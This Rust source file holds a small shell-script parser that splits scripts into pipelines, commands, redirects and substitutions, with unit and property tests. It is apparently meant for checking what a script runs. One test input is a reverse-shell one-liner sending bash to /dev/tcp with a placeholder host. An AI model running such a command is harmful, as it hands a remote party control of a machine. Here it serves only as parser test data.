//! Shell scripts, read as far as it takes to see which programs they run and what is piped where.
//!
//! Own code: crates split words (`shlex`) but know no pipes, or are whole shells. Nothing is
//! expanded, and what is no valid script is read as well as it goes.

use std::iter::Peekable;
use std::str::Chars;

/// Past this depth of substitutions within each other a script is not read on.
const DEPTH_LIMIT: usize = 16;

/// A script: its pipelines, one after the other.
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct Script {
    /// Each a list of commands, joined by pipes.
    pub pipelines: Vec<Vec<Command>>,
}

/// A command: `program argument >target`, or a group of commands in brackets.
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct Command {
    /// The program and its arguments, with keywords and assignments before them.
    pub words: Vec<Word>,
    /// Where its input and output go.
    pub redirects: Vec<Redirect>,
    /// What runs in brackets.
    pub group: Option<Script>,
}

/// A word, without its quotes.
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct Word {
    /// The text beside substitutions.
    pub text: String,
    /// The scripts whose output belongs into the word: `$(…)`, backticks, `<(…)`.
    pub substitutions: Vec<Script>,
}

/// Where input or output goes.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Redirect {
    /// Such as `>`, `<&` or `<<<`, without the number before it.
    pub operator: String,
    /// A file, a number or a text.
    pub target: Word,
}

impl Script {
    /// Reads a script.
    pub(crate) fn parse(text: &str) -> Self {
        Parser { chars: text.chars().peekable(), depth: 0 }.script(None)
    }
}

impl From<&str> for Word {
    fn from(text: &str) -> Self {
        Self { text: text.to_owned(), substitutions: Vec::new() }
    }
}

impl Command {
    fn is_empty(&self) -> bool {
        self.words.is_empty() && self.redirects.is_empty() && self.group.is_none()
    }
}

struct Parser<'a> {
    chars: Peekable<Chars<'a>>,
    depth: usize,
}

impl Parser<'_> {
    /// Reads up to `end`, or to the end of the text.
    fn script(&mut self, end: Option<char>) -> Script {
        let mut script = Script::default();
        let (mut pipeline, mut command) = (Vec::new(), Command::default());
        while let Some(&next) = self.chars.peek() {
            if Some(next) == end {
                self.chars.next();
                break;
            }
            match next {
                '|' | '&' | ';' | '\n' | ')' => {
                    self.chars.next();
                    if next == '&' && self.chars.peek() == Some(&'>') {
                        self.redirect(&mut command);
                        continue;
                    }
                    let pipes = next == '|' && !self.skip('|');
                    if pipes {
                        self.skip('&');
                    }
                    finish(&mut command, &mut pipeline);
                    if !pipes {
                        script.pipelines.extend((!pipeline.is_empty()).then_some(pipeline));
                        pipeline = Vec::new();
                    }
                }
                '(' => {
                    self.chars.next();
                    command.group = Some(self.nested(')'));
                }
                '<' | '>' => self.redirect(&mut command),
                '#' => while self.chars.next_if(|c| *c != '\n').is_some() {},
                _ if next.is_whitespace() => {
                    self.chars.next();
                }
                _ => {
                    let word = self.word();
                    // The number of a descriptor belongs to the redirect after it.
                    let redirects = matches!(self.chars.peek(), Some('<' | '>'));
                    let number = word.text.chars().all(|c| c.is_ascii_digit());
                    let nothing = word.text.is_empty() || number && redirects;
                    if !(nothing && word.substitutions.is_empty()) {
                        command.words.push(word);
                    }
                }
            }
        }
        finish(&mut command, &mut pipeline);
        script.pipelines.extend((!pipeline.is_empty()).then_some(pipeline));
        script
    }

    /// Reads a script within this one.
    fn nested(&mut self, end: char) -> Script {
        if self.depth == DEPTH_LIMIT {
            self.chars = "".chars().peekable();
            return Script::default();
        }
        self.depth += 1;
        let script = self.script(Some(end));
        self.depth -= 1;
        script
    }

    fn skip(&mut self, expected: char) -> bool {
        self.chars.next_if_eq(&expected).is_some()
    }

    fn redirect(&mut self, command: &mut Command) {
        let mut operator = String::new();
        while operator.len() < 3 {
            let Some(c) = self.chars.next_if(|c| matches!(c, '<' | '>' | '&' | '|')) else { break };
            operator.push(c);
        }
        if self.skip('(') {
            // `<(…)` is a word; in `< <(…)` it is the target.
            let substitutions = vec![self.nested(')')];
            command.words.push(Word { text: String::new(), substitutions });
            return;
        }
        while self.chars.next_if(|c| matches!(c, ' ' | '\t')).is_some() {}
        let target = match self.chars.peek() {
            Some('<' | '>') => Word::default(),
            _ => self.word(),
        };
        command.redirects.push(Redirect { operator, target });
    }

    fn word(&mut self) -> Word {
        let mut word = Word::default();
        while let Some(&next) = self.chars.peek() {
            match next {
                '|' | '&' | ';' | '(' | ')' | '<' | '>' => break,
                _ if next.is_whitespace() => break,
                '\'' => {
                    self.chars.next();
                    word.text.extend(self.chars.by_ref().take_while(|c| *c != '\''));
                }
                '"' => {
                    self.chars.next();
                    self.quoted(&mut word);
                }
                _ => self.piece(&mut word),
            }
        }
        word
    }

    /// The inside of double quotes.
    fn quoted(&mut self, word: &mut Word) {
        while let Some(&next) = self.chars.peek() {
            if next == '"' {
                self.chars.next();
                return;
            }
            self.piece(word);
        }
    }

    /// One character, or what it begins.
    fn piece(&mut self, word: &mut Word) {
        match self.chars.next() {
            Some('\\') => word.text.extend(self.chars.next().filter(|c| *c != '\n')),
            Some('`') => word.substitutions.extend(self.backticks()),
            Some('$') if self.skip('(') => {
                let script = self.nested(')');
                word.substitutions.push(script);
            }
            Some('$') if self.skip('{') => {
                word.text.push_str("${");
                word.text.extend(self.chars.by_ref().take_while(|c| *c != '}'));
                word.text.push('}');
            }
            Some(c) => word.text.push(c),
            None => {}
        }
    }

    /// Within backticks a backslash stands before further ones.
    fn backticks(&mut self) -> Option<Script> {
        let mut text = String::new();
        while let Some(c) = self.chars.next_if(|c| *c != '`') {
            let escaped =
                (c == '\\').then(|| self.chars.next_if(|c| matches!(c, '`' | '\\' | '$')));
            text.push(escaped.flatten().unwrap_or(c));
        }
        self.skip('`');
        let depth = self.depth + 1;
        (depth < DEPTH_LIMIT).then(|| Parser { chars: text.chars().peekable(), depth }.script(None))
    }
}

fn finish(command: &mut Command, pipeline: &mut Vec<Command>) {
    let command = std::mem::take(command);
    if !command.is_empty() {
        pipeline.push(command);
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    /// `a b | c; d`: the words of a script with what joins them.
    fn shown(script: &Script) -> String {
        let word = |word: &Word| {
            let inside = word.substitutions.iter().map(|script| format!("$({})", shown(script)));
            format!("{}{}", word.text, inside.collect::<Vec<_>>().concat())
        };
        let command = |command: &Command| {
            let words = command.words.iter().map(word);
            let group = command.group.iter().map(|group| format!("({})", shown(group)));
            let redirects = command.redirects.iter();
            let redirects = redirects.map(|it| format!("{}{}", it.operator, word(&it.target)));
            words.chain(group).chain(redirects).collect::<Vec<_>>().join(" ")
        };
        let pipeline =
            |commands: &Vec<Command>| commands.iter().map(command).collect::<Vec<_>>().join(" | ");
        script.pipelines.iter().map(pipeline).collect::<Vec<_>>().join("; ")
    }

    #[test]
    fn scripts_are_taken_apart() {
        for (text, expected) in [
            ("a b|c", "a b | c"),
            ("a |& b || c && d & e\nf", "a | b; c; d; e; f"),
            ("a 'b | c' \"d;e\" f\\|g", "a b | c d;e f|g"),
            ("a # b | c\nd#e", "a; d#e"),
            ("a 2>&1 >/x 2>>y <z | b", "a >&1 >/x >>y <z | b"),
            ("bash -i >& /dev/tcp/h/1 0>&1", "bash -i >&/dev/tcp/h/1 >&1"),
            ("a &>b <<<'c d'", "a >b <<<c d"),
            ("0<&196;exec 196<>/x", "<&196; exec <>/x"),
            ("a $(b | c \"$(d)\") `e \\`f\\``", "a $(b | c $(d)) $(e $(f))"),
            ("X=$(a) \"y$(b)z\"", "X=$(a) yz$(b)"),
            ("a <(b) < <(c)", "a $(b) $(c) <"),
            ("(a; b) | c", "(a; b) | c"),
            ("a ${b:-c d} $e", "a ${b:-c d} $e"),
            ("a \\\n b", "a b"),
            ("a; ; b ;", "a; b"),
            ("2 3>x", "2 >x"),
            ("", ""),
        ] {
            assert_eq!(shown(&Script::parse(text)), expected, "{text}");
        }
    }

    #[test]
    fn depth_is_bounded() {
        for open in ["$(", "`", "(", "<(", "\"$("] {
            let deep = open.repeat(100_000);
            assert!(Script::parse(&deep).pipelines.len() < 2, "{open}");
        }
    }

    proptest! {
        #[test]
        fn any_text_is_read(text in "[a|&;()<>$`'\"\\\\{}# \n0-9]{0,60}", any in "\\PC*") {
            for text in [text, any] {
                let words = |script: &Script| {
                    let commands = script.pipelines.iter().flatten();
                    commands.map(|command| command.words.len()).sum::<usize>()
                };
                prop_assert!(words(&Script::parse(&text)) <= text.chars().count());
            }
        }
    }
}
